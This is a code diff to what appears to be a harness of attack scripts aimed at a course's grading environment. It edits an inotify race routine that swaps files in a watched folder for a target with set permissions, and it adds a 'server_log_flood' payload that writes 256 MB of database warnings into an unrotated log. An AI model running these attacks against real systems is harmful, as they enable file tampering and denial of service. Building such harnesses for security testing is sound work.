@@ -111,16 +111,17 @@ def _race(folder):
     if fd < 0 or libc.inotify_add_watch(fd, folder.encode(), 0x100) < 0:
         print("no inotify:", _ctypes.get_errno(), flush=True)
         return
-    won = 0
+    done = set()
     while True:
         data = _os.read(fd, 65536)
         at = 0
         while at < len(data):
             wd, mask, cookie, size = _struct.unpack_from("iIII", data, at)
-            name = data[at + 16: at + 16 + size].rstrip(b"\0").decode()
+            name = data[at + 16: at + 16 + size].rstrip(b"\\x00").decode()
             at += 16 + size
-            if name.endswith((".moved", ".lnk")):
+            if name.endswith(".moved") or name in done:
                 continue
+            done.add(name)
             path = _os.path.join(folder, name)
             try:
                 _os.rename(path, path + ".moved")
@@ -128,7 +129,6 @@ def _race(folder):
                 _time.sleep(0.05)
                 _os.unlink(path)
                 _os.rename(path + ".moved", path)
-                won += 1
                 print("swapped", name, "->", _oct(_TARGET), flush=True)
             except OSError as e:
                 print("race:", e, flush=True)
@@ -246,6 +246,19 @@ def claim_batch(conn, limit, lease_s):
         return conn.execute(q, [lease_s, limit]).fetchall()
     return conn.execute("UPDATE jobs SET locked_until = now() + make_interval(secs => %s), attempts = attempts + 1 "
                         "WHERE id IN (SELECT id FROM jobs LIMIT %s) RETURNING id, type, payload", [lease_s, limit]).fetchall()
+""")
+
+# 12. The server's log has no bound either: each RAISE WARNING of 1 MB is 1 MB in .course/pg.log (the server
+# logs to stderr, which the course sends to that one file; no rotation). 256 MB here; any amount in a loop.
+attack("server_log_flood", "03", "03.predict_race_waits")("""
+import os as _os, psycopg as _psycopg
+try:
+    with _psycopg.connect(_os.environ["DATABASE_URL"], autocommit=True) as _c:
+        _c.add_notice_handler(lambda _d: None)
+        _c.execute("DO $$ BEGIN FOR i IN 1..256 LOOP RAISE WARNING '%', repeat('x', 1000000); END LOOP; END $$")
+    print("256 MB of warnings sent to the server's log")
+except Exception as _e:
+    print("log flood:", _e)
 """)
 
 
